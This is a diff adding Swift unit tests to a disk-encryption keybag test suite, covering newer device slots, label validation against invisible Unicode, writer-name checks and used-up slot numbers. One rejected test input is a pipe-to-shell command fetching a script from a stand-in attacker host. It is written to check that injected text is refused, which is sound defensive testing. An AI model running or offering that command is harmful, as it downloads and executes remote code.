@@ -83,6 +83,57 @@ import VolumeFormat
         _ = try recovered.unlock(try passphrase("four"), deviceKey: other)
     }
 
+    /// A newer slot in place of the device's: passphrases and recovery codes still open the volume, with the device key too.
+    @Test func aNewerDeviceSlot() throws {
+        for kind: UInt8 in [1, 4] {
+            let made = try make { layout in
+                var slot = Self.tpm
+                slot[2] = kind
+                slot[3] = 0x10
+                layout.slots[0] = .newer(NewerSlot(bytes: slot))
+            }
+            let bag = made.bag
+            #expect(bag.hasDeviceKey && !bag.opensWithDeviceKey && bag.newerDeviceSlot == 70)
+            #expect(
+                keybagError { () throws(KeybagError) in _ = try bag.open(deviceKey: made.device) }
+                    == .newerDeviceSlot(70))
+            let one = try passphrase("one")
+            let recovery = Credential.recoveryCode(try made.recovery.copy())
+            let keys = try bag.unlock(one, deviceKey: made.device)
+            let others = try bag.unlock(recovery, deviceKey: made.device)
+            let same = keys.isSame(as: made.keys) && others.isSame(as: made.keys)
+            #expect(same)
+            _ = try bag.unlock(recovery)
+            #expect(keybagError { () throws(KeybagError) in _ = try bag.unlock(one) } == .deviceKeyNeeded)
+            let wrong = try SecretKey.random()
+            #expect(
+                keybagError { () throws(KeybagError) in _ = try bag.unlock(one, deviceKey: wrong) } == .wrongPassphrase)
+            let slot = try bag.slot(openedBy: try secret("one"), deviceKey: made.device)
+            #expect(slot == bag.slots[1].id)
+            let changed = try bag.changingPassphrase(
+                ofSlot: slot, to: try secret("two"), deviceKey: made.device, cost: cheap, keys: made.keys)
+            _ = try changed.unlock(try passphrase("two"), deviceKey: made.device)
+            #expect(newer(changed) == newer(bag))
+            // The MACs are checked all the same, and before that the costs are not believed.
+            let forged = try Keybag(parsing: flipped(bag.bytes, at: bag.bytes.count - 33))
+            #expect(
+                keybagError { () throws(KeybagError) in _ = try forged.unlock(recovery, deviceKey: made.device) }
+                    == .deviceMACMismatch)
+        }
+        let dear = try make { layout in
+            layout.slots[0] = .newer(NewerSlot(bytes: Self.tpm))
+            guard var slot = layout.slots[1].known else { return }
+            for number in UInt32(80)..<90 {
+                (slot.slotID, slot.passes, slot.memory) = (number, 16, 4 << 30)
+                layout.slots.append(.known(slot))
+            }
+        }
+        let two = try passphrase("two")
+        #expect(
+            keybagError { () throws(KeybagError) in _ = try dear.bag.unlock(two, deviceKey: dear.device) }
+                == .passwordHashesRefused(slots: 11))
+    }
+
     @Test func newerSlotsAreRemovedOnlyByAWord() throws {
         let made = try make { $0.slots.append(.newer(NewerSlot(bytes: Self.tpm))) }
         let bag = made.bag
@@ -178,11 +229,34 @@ import VolumeFormat
         #expect(nameless.slots[1].label.name == nil)
     }
 
+    /// Messages show a writer that nothing has verified only if it is a name and a version.
+    @Test func writersInMessages() {
+        for text in ["protectfs 9.8.7", "other-program 1", ProgramVersion.writer, "x 2.0+beta_1"] {
+            #expect(WriterName.isNameAndVersion(text), "\(text)")
+        }
+        for text in [
+            "", " ", "protectfs", "protectfs ", " 1", "protectfs  1", "protectfs v1",
+            "9.0: run: curl evil.example/u.sh | sh #",
+            "a b", "run 1 now", "\"protectfs 1\"", "ü 1",
+        ] { #expect(!WriterName.isNameAndVersion(text), "\(text)") }
+        for text in [ProgramVersion.writer, "protectfs 0.2.9", "protectfs 0"] {
+            #expect(WriterName.isThisVersionOrEarlier(text), "\(text)")
+        }
+        for text in [
+            "protectfs 9.8.7", "protectfs \(ProgramVersion.number).1", "other 0.1", "protectfs 0.x", "protectfs -1", "",
+        ] {
+            #expect(!WriterName.isThisVersionOrEarlier(text), "\(text)")
+        }
+    }
+
     @Test func labels() throws {
         let made = try make { _ in }
         #expect(made.bag.slots.map(\.label.name) == ["made", "made", "made"])
         let more = try secret("more")
-        for label in ["a\n", String(repeating: "ü", count: 33), "a\u{202e}b", "\u{7f}", "\u{85}"] {
+        let unseen = ["\u{200b}", "\u{200e}", "\u{200f}", "\u{61c}", "\u{2060}", "\u{feff}", "\u{2028}"].map {
+            "a\($0)b"
+        }
+        for label in ["a\n", String(repeating: "ü", count: 33), "a\u{202e}b", "\u{7f}", "\u{85}"] + unseen {
             #expect(SlotLabel.text(Array(label.utf8)) == nil)
             let error = keybagError { () throws(KeybagError) in
                 _ = try made.bag.addingPortablePassphrase(more, cost: cheap, label: label, keys: made.keys)
@@ -220,6 +294,35 @@ import VolumeFormat
             keybagError { () throws(KeybagError) in
                 _ = try bag.recovering(passphrase: more, newDeviceKey: other, cost: cheap, keys: made.keys)
             } == refused)
+    }
+
+    /// A keybag with the highest serial or slot number is not full: removing passphrases would not help.
+    @Test func noNumberIsLeft() throws {
+        let more = try secret("more")
+        for change in 0..<2 {
+            let made = try make { layout in
+                if change == 0 {
+                    layout.serial = .max
+                } else {
+                    layout.slots.append(.newer(NewerSlot(bytes: [8, 0, 255, 0, 255, 255, 255, 255])))
+                }
+            }
+            let bag = made.bag
+            let slot = bag.slots[1].id
+            #expect(
+                keybagError { () throws(KeybagError) in
+                    _ = try bag.addingPortablePassphrase(more, cost: cheap, keys: made.keys)
+                } == .numbersUsedUp)
+            #expect(
+                keybagError { () throws(KeybagError) in _ = try bag.renewingRecoveryCode(keys: made.keys) }
+                    == .numbersUsedUp)
+            // A change in place needs no new slot number.
+            #expect(
+                keybagError { () throws(KeybagError) in
+                    _ = try bag.changingPassphrase(
+                        ofSlot: slot, to: more, deviceKey: made.device, cost: cheap, keys: made.keys)
+                } == (change == 0 ? .numbersUsedUp : nil))
+        }
     }
 
     @Test func aKeybagOfOneMebibyte() throws {
